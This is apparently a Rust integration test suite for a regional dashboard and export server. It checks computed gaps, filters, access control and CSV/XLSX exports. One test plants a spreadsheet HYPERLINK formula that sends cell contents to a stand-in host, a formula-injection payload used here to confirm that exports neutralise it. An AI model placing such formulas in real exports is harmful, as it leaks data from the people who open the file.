//! Regional consolidation against a running server, on SQLite and on
//! PostgreSQL: workspaces in two countries are filled by a field officer's
//! device; the dashboard's figures are checked against numbers worked out by
//! hand, follow new changes as they arrive, narrow with the filters, and a
//! counterpart sees only their own workspace; a regional officer whose role
//! covers a country sees that country's workspaces without being a member.
//! The facts behind the dashboard are kept by the server's own task after
//! each sync, and filled in at start-up for documents synced before.
//!
//! Only the `administration` section's first question is rated in each
//! assessment, so a workspace's administration gap is desired − existing.

use crate::common::{Backend, TestServer, device};
use cd4mm_core::assessment::Assessment;
use cd4mm_core::engagement::Engagement;
use cd4mm_core::monitoring::{Measurement, Monitoring, ParticipantGroup, ProgressUpdate, Training};
use cd4mm_core::plan::{Activity, Outcome, Output, Plan};
use cd4mm_core::vocabulary::{AgeGroup, Area, PhaseState, Sex};
use cd4mm_core::{Content, Date, Edit};
use cd4mm_server::admin::Command;
use serde_json::{Value, json};

const GH: &str = "gh-north";
const SN: &str = "sn-dakar";
const EXISTING: &str = "responses/adm_structure/existing";

fn assessment(existing: i64, desired: i64) -> Content {
    let templates = cd4mm_core::data::templates().expect("templates");
    let template = templates.iter().find(|t| t.id == "border_management").expect("template");
    let mut a = Assessment::start("Border self-assessment", template);
    let r = a.responses.get_mut("adm_structure").expect("question");
    (r.existing, r.desired) = (Some(existing), Some(desired));
    a.completed_on = Date::parse("2026-03-01");
    Content::Assessment(a)
}

/// Ghana's engagement is on border management, Senegal's on labour migration.
fn engagement(title: &str, engagement_done: bool) -> Content {
    let area = if engagement_done { Area::BorderManagement } else { Area::LabourMigration };
    let mut e = Engagement { title: title.into(), area: Some(area), ..Engagement::default() };
    if engagement_done {
        e.phases.engagement = PhaseState::Done;
    }
    Content::Engagement(e)
}

fn plan() -> Content {
    let activity = Activity { id: "a1".into(), title: "SOPs".into(), budget: 1_000.0, ..Activity::default() };
    let output = Output { id: "op".into(), activities: vec![activity], ..Output::default() };
    let outcome = Outcome { id: "oc".into(), outputs: vec![output], ..Outcome::default() };
    Content::Plan(Plan { title: "Response".into(), outcomes: vec![outcome], ..Plan::default() })
}

fn monitoring() -> Content {
    let update = ProgressUpdate {
        id: "u1".into(),
        activity_id: "a1".into(),
        date: Date::parse("2026-06-30"),
        spent: 250.0,
        ..ProgressUpdate::default()
    };
    let group = |id: &str, sex: Sex, age_group: AgeGroup, count: u32| ParticipantGroup {
        id: id.into(),
        sex,
        age_group,
        count,
        ..ParticipantGroup::default()
    };
    let training = Training {
        id: "t1".into(),
        title: "Document examination".into(),
        starts_on: Date::parse("2026-05-04"),
        participants: vec![
            group("g1", Sex::Female, AgeGroup::Under25, 3),
            group("g2", Sex::Male, AgeGroup::From25To39, 2),
        ],
        ..Training::default()
    };
    let measurement = Measurement {
        id: "m1".into(),
        indicator_id: "i1".into(),
        date: Date::parse("2026-06-30"),
        value: 7.0,
        ..Measurement::default()
    };
    Content::Monitoring(Monitoring {
        title: "2026".into(),
        plan_id: "gh-plan".into(),
        progress: vec![update],
        measurements: vec![measurement],
        trainings: vec![training],
        ..Monitoring::default()
    })
}

async fn get(server: &TestServer, token: &str, query: &str) -> (u16, Value) {
    let r = cd4mm_sync::http_client()
        .get(format!("{}/api/dashboard{query}", server.url))
        .bearer_auth(token)
        .send()
        .await
        .expect("dashboard answers");
    (r.status().as_u16(), r.json().await.expect("json"))
}

/// `(country, gap, assessments)` of the administration cells.
fn administration(d: &Value) -> Vec<(String, f64, u64)> {
    d["heatmap"]
        .as_array()
        .expect("heatmap")
        .iter()
        .filter(|c| c["dimension"]["section"] == "administration")
        .map(|c| {
            let country = c["country"].as_str().unwrap_or_default().to_owned();
            (country, c["gap"].as_f64().unwrap_or(f64::NAN), c["assessments"].as_u64().unwrap_or(0))
        })
        .collect()
}

fn phases(d: &Value) -> Vec<(String, u64)> {
    d["engagements"]
        .as_array()
        .expect("engagements")
        .iter()
        .map(|e| (e["workspace"].as_str().unwrap_or_default().to_owned(), e["phase"].as_u64().unwrap_or(0)))
        .collect()
}

on_every_backend!(the_regional_dashboard, story);

async fn story(backend: Backend) {
    let server = TestServer::start_on(backend).await;
    server.admin(Command::AddWorkspace { id: SN.into(), name: "Dakar port".into(), country: "Senegal".into() });
    server.admin(Command::AddWorkspace { id: GH.into(), name: "Northern border".into(), country: "Ghana".into() });
    server.member(GH, "officer", "editor");
    server.member(SN, "officer", "editor");
    server.member(GH, "esi", "counterpart");

    let mut officer = device(&server, "officer").await;
    let docs = [
        ("gh-eng", GH, engagement("Northern border", true)),
        ("gh-a1", GH, assessment(2, 5)),
        ("gh-plan", GH, plan()),
        ("gh-mon", GH, monitoring()),
        ("sn-eng", SN, engagement("Dakar port", false)),
        ("sn-a1", SN, assessment(3, 4)),
    ];
    for (id, ws, content) in &docs {
        officer.store.create(id, ws, content, 1).expect("create");
    }
    officer.sync(&[GH, SN]).await.expect("officer syncs");
    let token = officer.client.token().to_owned();

    // By hand: Ghana's engagement phase is done → phase 2; Senegal's → phase 1.
    // Gaps: Ghana 5 − 2 = 3, Senegal 4 − 3 = 1. One plan: 1,000 budgeted, 250 spent.
    let (status, d) = get(&server, &token, "?by=section&measure=scale_points").await;
    assert_eq!(status, 200, "{d}");
    assert_eq!(phases(&d), [(GH.to_owned(), 2), (SN.to_owned(), 1)]);
    assert_eq!(administration(&d), [("Ghana".to_owned(), 3.0, 1), ("Senegal".to_owned(), 1.0, 1)]);
    let budgets = &d["plans"]["budgets"];
    assert_eq!((d["plans"]["plans"].as_u64(), budgets[0]["planned"].as_f64()), (Some(1), Some(1_000.0)), "{d}");
    assert_eq!((budgets[0]["spent"].as_f64(), budgets.as_array().map(Vec::len)), (Some(250.0), Some(1)));
    // The plan still says "planned"; its progress update says in progress, and wins.
    assert_eq!(d["plans"]["activities"]["in_progress"].as_u64(), Some(1), "{}", d["plans"]);
    assert_eq!(d["plans"]["activities"]["planned"].as_u64(), None, "{}", d["plans"]);

    // A new score changes the figure as soon as it is synced.
    officer.store.edit("sn-a1", &Edit::Set { path: EXISTING.into(), value: json!(4) }, 2).expect("edit");
    officer.sync(&[GH, SN]).await.expect("officer syncs");
    let (_, d) = get(&server, &token, "?by=section&measure=scale_points").await;
    assert_eq!(administration(&d)[1], ("Senegal".to_owned(), 0.0, 1));

    // Filters: by country, and by a period that leaves every assessment out.
    let (_, d) = get(&server, &token, "?by=section&measure=scale_points&country=ghana").await;
    assert_eq!(phases(&d), [(GH.to_owned(), 2)]);
    assert_eq!(administration(&d), [("Ghana".to_owned(), 3.0, 1)]);
    let (_, d) = get(&server, &token, "?by=section&measure=scale_points&to=2025-12-31").await;
    assert!(administration(&d).is_empty(), "{d}");
    let (status, err) = get(&server, &token, "?from=yesterday").await;
    assert_eq!((status, err["code"].as_str()), (400, Some("bad_filter")), "{err}");

    // The counterpart sees their workspace only, in every part of the answer.
    let esi = device(&server, "esi").await;
    let (_, d) = get(&server, esi.client.token(), "?by=section&measure=scale_points").await;
    assert_eq!(phases(&d), [(GH.to_owned(), 2)]);
    assert_eq!(administration(&d), [("Ghana".to_owned(), 3.0, 1)]);
    assert!(!d.to_string().contains("Senegal") && !d.to_string().contains(SN), "{d}");

    exports(&server, &token, esi.client.token()).await;
    regional_officer(&server).await;

    // Without a token there is nothing to see.
    let r = cd4mm_sync::http_client().get(format!("{}/api/dashboard", server.url)).send().await.expect("answers");
    assert_eq!(r.status().as_u16(), 401);
    server.stop().await;
}

async fn fetch(server: &TestServer, token: &str, path: &str) -> (u16, Vec<u8>) {
    let r = cd4mm_sync::http_client()
        .get(format!("{}/api/export/{path}", server.url))
        .bearer_auth(token)
        .send()
        .await
        .expect("export answers");
    (r.status().as_u16(), r.bytes().await.expect("body").to_vec())
}

/// RFC 4180 records as fields (question texts hold quoted commas).
fn csv(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = String::from_utf8_lossy(bytes);
    let (mut rows, mut row, mut field, mut quoted) = (Vec::new(), Vec::new(), String::new(), false);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                field.push('"');
                chars.next();
            }
            ('"', _) => quoted = !quoted,
            (',', false) => row.push(std::mem::take(&mut field)),
            ('\r', false) => {}
            ('\n', false) => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (c, _) => field.push(c),
        }
    }
    rows
}

fn column(table: &[Vec<String>], name: &str) -> usize {
    table[0].iter().position(|h| h == name).unwrap_or_else(|| panic!("no column {name}"))
}

async fn exports(server: &TestServer, officer: &str, counterpart: &str) {
    // Assessments: a row per question of both assessments (the border
    // template's questions each), scores as rated.
    let templates = cd4mm_core::data::templates().expect("templates");
    let questions = templates.iter().find(|t| t.id == "border_management").expect("template").questions().count();
    let (status, body) = fetch(server, officer, "assessments.csv").await;
    assert_eq!(status, 200);
    let t = csv(&body);
    assert_eq!(t.len(), 1 + 2 * questions, "header and every question of both");
    let (q, e, d, g) = (column(&t, "question"), column(&t, "existing"), column(&t, "desired"), column(&t, "gap"));
    let gh = t.iter().find(|r| r[0] == GH && r[q] == "adm_structure").expect("Ghana's rated question");
    assert_eq!((gh[e].as_str(), gh[d].as_str(), gh[g].as_str()), ("2", "5", "3"));
    let sn = t.iter().find(|r| r[0] == SN && r[q] == "adm_structure").expect("Senegal's rated question");
    assert_eq!((sn[e].as_str(), sn[g].as_str()), ("4", "0"), "the later edit is in the export");

    // Monitoring: one measurement and one training, disaggregated.
    let (_, body) = fetch(server, officer, "monitoring.csv").await;
    let t = csv(&body);
    assert_eq!(t.len(), 3, "{t:?}");
    let training = t.iter().find(|r| r[column(&t, "record")] == "training").expect("training row");
    let count = |name: &str| training[column(&t, name)].clone();
    assert_eq!((count("participants"), count("female"), count("male")), ("5".into(), "3".into(), "2".into()));
    assert_eq!((count("under_25"), count("25_to_39"), count("40_to_54")), ("3".into(), "2".into(), "0".into()));

    // Plans as XLSX, read back with a spreadsheet reader: the results
    // matrix, activities, risks and lessons, on sheets named for people,
    // with headings in words.
    use calamine::{Data, Reader, Xlsx};
    let (status, body) = fetch(server, officer, "plans.xlsx").await;
    assert_eq!(status, 200);
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(body)).expect("an XLSX file");
    assert_eq!(book.sheet_names(), ["Results matrix", "Activities", "Risks", "Lessons"]);
    let sheet = book.worksheet_range("Activities").expect("readable");
    let rows: Vec<&[Data]> = sheet.rows().collect();
    assert_eq!(rows.len(), 2, "header and one activity");
    let header: Vec<String> = rows[0].iter().map(|c| c.to_string()).collect();
    let at = |name: &str| header.iter().position(|h| h == name).unwrap_or_else(|| panic!("no {name} in {header:?}"));
    assert_eq!(rows[1][at("Activity id")], Data::String("a1".into()));
    assert_eq!(rows[1][at("Planned cost")], Data::Float(1_000.0));
    // The progress update's cumulative spend, and its status over the plan's.
    assert_eq!(rows[1][at("Spent to date")], Data::Float(250.0));
    assert_eq!(rows[1][at("Status (latest update)")], Data::String("in_progress".into()));
    assert_eq!(rows[1][at("Workspace")], Data::String(GH.into()));
    assert_eq!(rows[1][at("Migration-management area")], Data::String("border_management".into()));
    let (_, body) = fetch(server, officer, "plans.xlsx?lang=fr").await;
    let book: Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(body)).expect("an XLSX file");
    assert_eq!(book.sheet_names(), ["Matrice des résultats", "Activités", "Risques", "Enseignements"]);

    // The dashboard's filters narrow the exports as they narrow the dashboard.
    let (_, body) = fetch(server, officer, "assessments.csv?area=labour_migration").await;
    let t = csv(&body);
    assert_eq!(t.len(), 1 + questions, "Senegal's assessment only");
    assert!(t[1..].iter().all(|r| r[0] == SN && r[column(&t, "area")] == "labour_migration"));
    let (_, body) = fetch(server, officer, "assessments.csv?country=GHANA").await;
    let t = csv(&body);
    assert!(t.len() == 1 + questions && t[1..].iter().all(|r| r[0] == GH), "Ghana's only");
    let (_, body) = fetch(server, officer, "assessments.csv?template=migration_governance").await;
    assert_eq!(csv(&body).len(), 1, "the header alone: no assessment on that template");
    let (_, body) = fetch(server, officer, "plans.csv?area=labour_migration").await;
    assert_eq!(csv(&body).len(), 1, "Ghana's plan is on border management");
    let (status, _) = fetch(server, officer, "plans.csv?area=no_such_area").await;
    assert_eq!(status, 400, "a filter that means nothing is refused, not ignored");

    // Whole documents, for archiving.
    let (_, body) = fetch(server, officer, &format!("documents.json?workspace={GH}")).await;
    let docs: Value = serde_json::from_slice(&body).expect("json");
    let ids: Vec<&str> = docs.as_array().expect("list").iter().filter_map(|d| d["id"].as_str()).collect();
    assert_eq!(ids, ["gh-a1", "gh-eng", "gh-mon", "gh-plan"]);

    // A counterpart's export holds their workspace only, and asking for
    // another is refused.
    let (_, body) = fetch(server, counterpart, "assessments.csv").await;
    let t = csv(&body);
    assert!(t.len() > 1 && t[1..].iter().all(|r| r[0] == GH), "only {GH}");
    let (status, _) = fetch(server, counterpart, &format!("plans.csv?workspace={SN}")).await;
    assert_eq!(status, 403);
    let (status, _) = fetch(server, officer, "budgets.csv").await;
    assert_eq!(status, 404);
}

/// Kofi's role covers Senegal (spelt in lower case): he reads the Senegal
/// workspace as a viewer, in the dashboard and the exports, but may not
/// write there, and sees nothing of Ghana.
async fn regional_officer(server: &TestServer) {
    let _ = crate::common::block(|| {
        cd4mm_server::admin::run(
            server.db.as_ref(),
            Command::AddUser { username: "kofi".into(), password: crate::common::PASSWORD.into(), admin: false },
        )
    });
    server.admin(Command::Cover { username: "kofi".into(), countries: vec!["senegal".into()] });
    let mut kofi = device(server, "kofi").await;
    let me: Value = cd4mm_sync::http_client()
        .get(format!("{}/v1/me", server.url))
        .bearer_auth(kofi.client.token())
        .send()
        .await
        .expect("me")
        .json()
        .await
        .expect("json");
    let roles: Vec<(&str, &str)> = me["workspaces"]
        .as_array()
        .expect("workspaces")
        .iter()
        .map(|w| (w["workspace"].as_str().unwrap_or(""), w["role"].as_str().unwrap_or("")))
        .collect();
    assert_eq!(roles, [(SN, "viewer")]);

    let (_, d) = get(server, kofi.client.token(), "?by=section&measure=scale_points").await;
    assert_eq!(phases(&d), [(SN.to_owned(), 1)]);
    assert_eq!(administration(&d), [("Senegal".to_owned(), 0.0, 1)]);
    assert!(!d.to_string().contains("Ghana"), "{d}");
    let (_, body) = fetch(server, kofi.client.token(), "assessments.csv").await;
    let t = csv(&body);
    assert!(t.len() > 1 && t[1..].iter().all(|r| r[0] == SN), "only {SN}");
    let (status, _) = fetch(server, kofi.client.token(), &format!("plans.csv?workspace={GH}")).await;
    assert_eq!(status, 403);

    // Reading by sync works; writing is refused, and nothing is stored.
    kofi.sync(&[SN]).await.expect("a viewer syncs to read");
    assert!(kofi.store.read("sn-a1").is_ok(), "the Senegal assessment reached his device");
    kofi.store.edit("sn-a1", &Edit::Set { path: EXISTING.into(), value: json!(1) }, 3).expect("local edit");
    let p = kofi.sync(&[SN]).await.expect("the sync goes on");
    assert_eq!(p.changes_refused, 1, "a viewer may not write");
    let waiting = kofi.store.not_accepted().expect("not accepted");
    assert!(waiting[0].message.contains("viewer"), "{waiting:?}");
    let (_, d) = get(server, kofi.client.token(), "?by=section&measure=scale_points").await;
    assert_eq!(administration(&d), [("Senegal".to_owned(), 0.0, 1)], "the refused score is not counted");

    // The administrator lists and takes back the country (in any case):
    // Senegal is gone from his dashboard and exports.
    let db = server.db.clone();
    let listed =
        crate::common::block(move || cd4mm_server::admin::run(db.as_ref(), Command::ListCoverage)).expect("list");
    // Kept as the ISO list spells it, however it was typed.
    assert!(listed.lines().any(|l| l.starts_with("kofi") && l.ends_with("Senegal")), "{listed}");
    server.admin(Command::Uncover { username: "kofi".into(), countries: vec!["SENEGAL".into()] });
    let (_, d) = get(server, kofi.client.token(), "?by=section&measure=scale_points").await;
    assert!(phases(&d).is_empty() && administration(&d).is_empty(), "{d}");
    let (status, _) = fetch(server, kofi.client.token(), &format!("plans.csv?workspace={SN}")).await;
    assert_eq!(status, 403);
}

/// The number of documents of these workspaces with facts, as the server keeps them.
fn facts_kept(server: &TestServer, workspaces: &[&str]) -> usize {
    let ids: Vec<String> = workspaces.iter().map(|w| (*w).to_owned()).collect();
    let db = server.db.clone();
    crate::common::block(move || db.facts(&ids)).expect("facts").len()
}

/// Wait (at most 20 s) until the server keeps facts for `n` documents.
async fn wait_for_facts(server: &TestServer, workspaces: &[&str], n: usize) {
    for _ in 0..200 {
        if facts_kept(server, workspaces) == n {
            return;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    panic!("facts for {} documents, not {n}", facts_kept(server, workspaces));
}

on_every_backend!(facts_follow_syncs_and_are_filled_in_at_start_up, facts_story);

async fn facts_story(backend: Backend) {
    let server = TestServer::start_on(backend).await;
    server.admin(Command::AddWorkspace { id: GH.into(), name: "Northern border".into(), country: "Ghana".into() });
    server.member(GH, "officer", "editor");
    let mut officer = device(&server, "officer").await;
    officer.store.create("gh-eng", GH, &engagement("Northern border", true), 1).expect("create");
    officer.store.create("gh-a1", GH, &assessment(2, 5), 1).expect("create");
    officer.sync(&[GH]).await.expect("sync");
    // Nobody asks for the dashboard: the server's task computes the facts.
    wait_for_facts(&server, &[GH], 2).await;

    // A server from before the facts existed: the table is empty when the
    // server starts (again on SQLite; as a new instance on PostgreSQL).
    let server = match backend {
        Backend::Sqlite => {
            let data = server.stop().await;
            let file = data.path().join("cd4mm-server.sqlite3");
            let db = rusqlite::Connection::open(&file).expect("open");
            assert_eq!(db.execute("DELETE FROM facts", []).expect("delete"), 2);
            drop(db);
            TestServer::start_in(data, |_| {}).await
        }
        Backend::Postgres => {
            let url = server.cluster.as_ref().expect("cluster").url("cd4mm");
            std::thread::spawn(move || {
                let mut db = postgres::Client::connect(&url, postgres::NoTls).expect("connect");
                assert_eq!(db.execute("DELETE FROM facts", &[]).expect("delete"), 2);
            })
            .join()
            .expect("emptied");
            // No sync follows: only the new instance's first pass can fill them.
            let second = server.second_instance().await;
            server.stop().await;
            second
        }
    };
    wait_for_facts(&server, &[GH], 2).await;
    let (_, d) = get(&server, officer.client.token(), "?by=section&measure=scale_points").await;
    assert_eq!(administration(&d), [("Ghana".to_owned(), 3.0, 1)]);
    server.stop().await;
}

on_every_backend!(a_large_export_comes_whole_and_carries_no_formula, large_export);

/// An export is written a page of documents at a time (CSV and JSON as they
/// are made): 150 plans, over several pages, all arrive, in order, once. A
/// plan title typed as a spreadsheet formula reaches the CSV as text.
async fn large_export(backend: Backend) {
    const PLANS: usize = 150;
    const FORMULA: &str = "=HYPERLINK(\"http://example.invalid/\"&C2,\"Click for the budget\")";
    let server = TestServer::start_on(backend).await;
    server.member(GH, "ama", "editor");
    let mut ama = device(&server, "ama").await;
    for n in 0..PLANS {
        let Content::Plan(mut p) = plan() else { unreachable!() };
        p.title = if n == 7 { FORMULA.into() } else { format!("Plan {n}") };
        ama.store.create(&format!("plan-{n:03}"), GH, &Content::Plan(p), 1).expect("plan");
    }
    ama.sync(&[GH]).await.expect("sync");
    let token = ama.client.token().to_owned();

    let (status, body) = fetch(&server, &token, "plans.csv").await;
    assert_eq!(status, 200);
    let t = csv(&body);
    assert_eq!(t.len(), 1 + PLANS, "the header and one activity of each plan");
    let (document, title) = (column(&t, "plan"), column(&t, "plan_title"));
    let ids: Vec<&str> = t[1..].iter().map(|r| r[document].as_str()).collect();
    let expected: Vec<String> = (0..PLANS).map(|n| format!("plan-{n:03}")).collect();
    assert_eq!(ids, expected, "every plan once, in order");
    assert_eq!(t[8][title], format!("'{FORMULA}"), "the formula arrives as text");

    // The workbook, written a row at a time to a temporary file and streamed,
    // holds the same rows; the title is a string cell, not a formula.
    use calamine::{Data, Reader, Xlsx};
    let (status, body) = fetch(&server, &token, "plans.xlsx").await;
    assert_eq!(status, 200);
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(body)).expect("an XLSX file");
    let sheet = book.worksheet_range("Activities").expect("readable");
    let rows: Vec<&[Data]> = sheet.rows().collect();
    let ids: Vec<String> = rows[1..].iter().map(|r| r[document].to_string()).collect();
    assert_eq!(ids, expected, "every plan once, in order, in the workbook too");
    assert_eq!(rows[8][title], Data::String(FORMULA.into()));
    for name in book.sheet_names() {
        let formulas = book.worksheet_formula(&name).expect("formulas");
        assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "no formula cell in {name}");
    }

    let (status, body) = fetch(&server, &token, "documents.json").await;
    assert_eq!(status, 200);
    let docs: Value = serde_json::from_slice(&body).expect("one JSON document");
    assert_eq!(docs.as_array().expect("a list").len(), PLANS);
    server.stop().await;
}
